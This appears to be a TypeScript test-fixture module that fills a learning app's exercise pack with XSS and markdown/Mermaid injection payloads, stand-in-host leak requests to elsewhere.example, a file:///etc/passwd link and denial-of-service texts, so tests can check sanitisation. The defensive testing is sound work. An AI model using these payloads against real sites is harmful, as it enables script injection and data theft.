import { cpSync, globSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse, stringify } from 'yaml';

const kinds = fileURLToPath(new URL('../fixtures/packs/kinds', import.meta.url));

/** What each trick would do where it worked: the tests look for it, and for any request to these addresses. */
const run = 'window.ranFromAPack=1';
const away = 'https://elsewhere.example/leak';

/** One line each, for titles, names, questions and hints. Sentences stay around them, as an attacker would write. */
export const tricksInLine = [
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `[press](javascript:${run})`,
  `![seen](${away}/image.png)`,
  '`<svg onload=alert(1)>`',
].join(' ');

/** Markdown with every trick known to have worked somewhere. */
export const tricksInText = `
<script>${run}</script>
<ScRiPt/src="${away}/x.js"></ScRiPt>

<img src=x onerror="${run}"> <img src="${away}/a.png" srcset="/leak-b.png 2x"> <IMG """><SCRIPT>${run}</SCRIPT>">

<svg><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a><animate onbegin="${run}" attributeName=x dur=1s /></svg>

<svg/onload=${run}> <body onload=${run}> <details open ontoggle="${run}"><summary>s</summary></details>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">

<iframe srcdoc="<script>parent.ranFromAPack=1</script>"></iframe> <iframe src="${away}/frame"></iframe>
<object data="${away}/o"></object> <embed src="${away}/e"> <video src="${away}/v" onerror="${run}" autoplay></video>

<style>@import url(${away}/s.css); body { background: url(/leak-style); display: none }</style>
<link rel="stylesheet" href="${away}/l.css"> <link rel="prefetch" href="/leak-prefetch">
<base href="${away}/"> <meta http-equiv="refresh" content="0;url=${away}/refresh">

<form action="${away}/form"><input name="password" autofocus onfocus="${run}"><button formaction="javascript:${run}">Continue</button></form>

<p id="main">a</p> <a id="root" name="root">b</a> <img name="getElementById"> <form id="exercises"><input id="children"></form>

[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java&#115;cript:${run}) [d](&#x6A;avascript:${run}) [e](javascript&colon;${run})
[f](<java\tscript:${run}>) [g](<\u0001javascript:${run}>) [h](vbscript:${run}) [i](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[j](data:image/svg+xml,<svg/onload=${run}>) [k](file:///etc/passwd) [l](blob:null/x) [m](//elsewhere.example/leak) [n](/leak-link) [o](?leak=1)
[p](#%) [q](#%E0%A4%A) [r]( javascript:${run} "title\\" onmouseover=\\"${run}") [s][ref] [t](smb://elsewhere.example/leak) [u](ms-settings:x)

[ref]: javascript:${run}

<javascript:${run}> <data:text/html,x> www.elsewhere.example/leak https://elsewhere.example/leak" onmouseover=${run}

![a](${away}/i.png) ![b](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![c](/leak-image) ![d][pic]

[pic]: ${away}/pic.png "title"

A note[^main] and another[^"><img src=x onerror=${run}>].

[^main]: <img src=x onerror=${run}>
[^"><img src=x onerror=${run}>]: text

# main
## root
### constructor
## <img src=x onerror=${run}>

| <img src=x onerror=${run}> | b |
|---|---|
| [x](javascript:${run}) | <style>*{display:none}</style> |

- [ ] <input onfocus=${run} autofocus>

> **Note** <img src=x onerror=${run}>

\`\`\`html" onmouseover="${run}
<script>${run}</script>
\`\`\`

\`\`\`js
import '${away}/code.js';
\`\`\`
`;

const flow = 'flowchart LR';
/** Diagrams that ask for more than a drawing, and some that are drawn with tricks in their words. */
export const tricksInDiagrams = [
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${away}/d.css)"}}%%\n${flow}\n  A["<img src=x onerror='${run}'>"] --> B`,
  `---\nconfig:\n  securityLevel: loose\n---\n${flow}\n  A --> B`,
  `${flow}\n  A --> B\n  click A href "javascript:${run}"\n  click B call alert()`,
  `${flow}\n  A@{ img: "${away}/d.png", label: "x" } --> B`,
  `${flow}\n  A --> B\n  style A fill:url(${away}/d.svg#x)\n  classDef default background-image:url(/leak-diagram)`,
  `${flow}\n  A["$$\\\\href{javascript:${run}}{x}$$"] --> B`,
  `sequenceDiagram\n  participant A\n  links A: {"x": "javascript:${run}"}\n  A->>B: hi`,
  `${flow}\n  A["<img src=x onerror='${run}'>"] -->|"<script>${run}</script>"| B["#lt;img src=x onerror=${run}#gt;"]`,
  `${flow}\n  A["<a href='javascript:${run}'>drawn</a>"] --> B["<iframe srcdoc='x'></iframe><style>*{display:none}</style>"]`,
  `sequenceDiagram\n  participant A as <img src=x onerror=${run}>\n  A->>A: <svg onload=${run}>drawn\n  Note over A: <iframe src="${away}/n">`,
  `classDiagram\n  class A["<img src=x onerror=${run}>"]\n  A : +"<script>${run}</script>"`,
  `erDiagram\n  "<img src=x onerror=${run}>" ||--o{ ORDER : "<svg onload=${run}>"`,
  `stateDiagram-v2\n  [*] --> A : <img src=x onerror=${run}>\n  state "<svg onload=${run}>" as A`,
  `${flow}\n${'  subgraph x\n'.repeat(300)}  A${'\n  end'.repeat(300)}`,
  `${flow}\n  accTitle: <img src=x onerror=${run}>\n  accDescr: "><script>${run}</script>\n  A --> B`,
  `${flow}\n  accTitle: "' onload=${run} x='\n  accDescr: javascript:${run}\n  A["javascript:${run}"] -->|"${away}"| B["\`**b** [x](javascript:${run}) ![y](${away}/m.png)\`"]`,
  `sequenceDiagram\n  participant A as " onload=${run} x="\n  A->>A: onerror=${run} ${away}<br/>drawn\n  Note over A: ' onmouseover='${run}`,
  `classDiagram\n  class A {\n    <<interface>>\n    +onload=${run} string\n  }`,
  `erDiagram\n  "' onload=${run}" ||--o{ ORDER : "${away}"`,
  `stateDiagram-v2\n  [*] --> A : onload=${run}\n  state "javascript:${run}" as A`,
].map((source) => `\`\`\`mermaid\n${source}\n\`\`\`\n`);

/** Texts whose only trick is the time that reading them takes. */
export const endless = {
  deep: `${'>'.repeat(20_000)} x\n\n${'- '.repeat(10_000)}x\n`,
  long: `${'word '.repeat(200_000)}\n`,
  emphasis: `${'*a_ '.repeat(40_000)}\n`,
  many: '- a\n'.repeat(60_000),
} as const;

/** The fixture with one exercise of every kind, each text that a person reads full of tricks. Gives the pack's folder. */
export function hostilePack(folder: string): string {
  const pack = join(folder, 'hostile');
  cpSync(kinds, pack, { recursive: true });
  for (const file of globSync('**/{pack,exercise}.yaml', { cwd: pack })) edit(join(pack, file), withTricks);
  edit(join(pack, 'pack.yaml'), (manifest) => ({ ...(manifest as object), id: 'hostile' }));
  for (const file of globSync('**/{lesson,task}*.md', { cwd: pack })) {
    const path = join(pack, file);
    const text = readFileSync(path, 'utf8').replace(
      /^(title|summary): (.*)$/gm,
      (_, key, words) => `${key}: ${JSON.stringify(`${words} ${tricksInLine}`)}`,
    );
    writeFileSync(path, `${text}\n${tricksInText}\n${tricksInDiagrams.join('\n')}`);
  }
  const endlessLessons = ['schema', 'plan', 'tests', 'function'];
  for (const [at, text] of Object.values(endless).entries()) {
    const path = join(pack, endlessLessons[at] ?? '', 'lesson.md');
    const frontMatter = /^---\n[\s\S]*?\n---\n/.exec(readFileSync(path, 'utf8'))?.[0] ?? '';
    writeFileSync(path, `${frontMatter}${text.slice(0, 1024 * 1024 - frontMatter.length - 1)}`);
  }
  return pack;
}

function edit(path: string, change: (value: unknown) => unknown): void {
  writeFileSync(path, stringify(change(parse(readFileSync(path, 'utf8'))), { lineWidth: 0 }));
}

const read = new Set([
  'title',
  'name',
  'question',
  'why',
  'nextStep',
  'mistake',
  'description',
  'summary',
  'explanation',
  'text',
]);

/** What stands below these are names of code and kinds of columns, whatever their keys are called. */
const machines = new Set(['columns', 'property', 'operations', 'verify']);

/** A text of the pack is one string or one per language; ids, answers, code and the names of files are none. */
function withTricks(value: unknown, key = ''): unknown {
  if (Array.isArray(value)) return value.map((one) => withTricks(one, key === 'hints' ? 'text' : ''));
  if (typeof value === 'string') return read.has(key) ? `${value} ${tricksInLine}` : value;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, one]) => {
      const isLanguage = name === 'en' || name === 'pt-BR';
      return [name, machines.has(key) ? one : withTricks(one, isLanguage ? key : name)];
    }),
  );
}
